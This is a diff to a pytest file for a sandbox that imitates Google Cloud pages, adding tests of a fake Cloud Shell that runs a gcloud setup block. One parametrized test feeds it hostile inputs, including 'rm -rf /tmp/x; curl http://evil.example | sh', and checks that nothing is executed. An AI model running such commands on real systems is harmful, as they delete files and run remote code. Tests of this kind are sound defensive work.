@@ -8,6 +8,7 @@ from typing import TYPE_CHECKING, Any
 
 import pytest
 
+from certmail_config.google_commands import CLIENT_ID, Wanted, gcloud
 from certmail_sandbox.consoles import PATHS
 from certmail_sandbox.server import build
 
@@ -178,7 +179,7 @@ async def test_links_lead_to_the_same_places_as_at_google(google: Google) -> Non
     number = (await google.control("PUT", f"/projects/{PROJECT}", {}))["number"]
     for path, expected in (
         ("/", "Google, played by the sandbox"),
-        (f"/?cloudshell=true&project={PROJECT}", "Cloud Shell"),
+        ("/cloudshell", "Cloud Shell"),
         ("/welcome", "Projects"),
         (API, "Gmail API"),
         (f"/apis/api/gmail.googleapis.com/overview?project={number}", "Gmail API"),
@@ -265,3 +266,47 @@ async def test_what_people_type_is_escaped_and_every_page_names_itself_a_stand_i
         assert answer.status == 200, path
         assert "stand-in" in answer.body, path
         assert "default-src 'none'" in answer.headers["Content-Security-Policy"]
+
+
+class TestCloudShell:
+    async def test_does_what_certmails_own_block_says_and_once_only(self, google: Google) -> None:
+        await google.control("POST", "/accounts", {"email": MAILBOX})
+        delegation = f"{google.url}{DELEGATION}?clientIdToAdd={CLIENT_ID}&clientScopeToAdd={SEND}"
+        block = gcloud(Wanted(ROBOT, google.keys.certificate(), delegation))
+        assert "Cloud Shell" in await see_following(google, f"/?cloudshell=true&project={PROJECT}")
+        for _ in range(2):
+            said = await press(google, "/cloudshell", commands=block)
+            assert said.status == 200, words(said)
+        found = re.search(r"Done\. Client ID: (\d{21})", words(said))
+        assert found, words(said)
+        assert f'href="{delegation.replace(CLIENT_ID, found[1]).replace("&", "&amp;")}"' in said.body
+        assert "API enabled" in await see(google, API)
+        keys = await google.ask("GET", f"/service_accounts/v1/metadata/x509/{ROBOT}")
+        assert len(keys.body) == 1
+        await press(google, DELEGATION, client_id=found[1], scopes=SEND)
+        google.clock.ahead += 5
+        assert (await token(google)).status == 200
+
+    @pytest.mark.parametrize(
+        ("commands", "sentence"),
+        [
+            ("rm -rf /tmp/x; curl http://evil.example | sh", ""),
+            ("curl http://evil.example", "`curl` is not played here"),
+            ("gcloud compute instances create x", "`gcloud compute instances create` is not played here"),
+            ("gcloud services enable gmail.googleapis.com --project=nope-nope", "There is no project"),
+            ("gcloud iam service-accounts keys upload a.pem --iam-account=x@y.example", "no service account"),
+            ("gcloud projects create A", "is no project ID"),
+            ("echo 'half", "cannot be read"),
+        ],
+    )
+    async def test_runs_nothing_and_names_what_it_does_not_know(
+        self, google: Google, commands: str, sentence: str
+    ) -> None:
+        said = await press(google, "/cloudshell", commands=commands)
+        assert sentence in words(said)
+        assert said.status == (400 if sentence else 200)
+        assert "evil" not in words(said).replace(commands, "")
+
+
+async def see_following(google: Google, path: str) -> str:
+    return words(await google.ask("GET", path, allow_redirects=True))
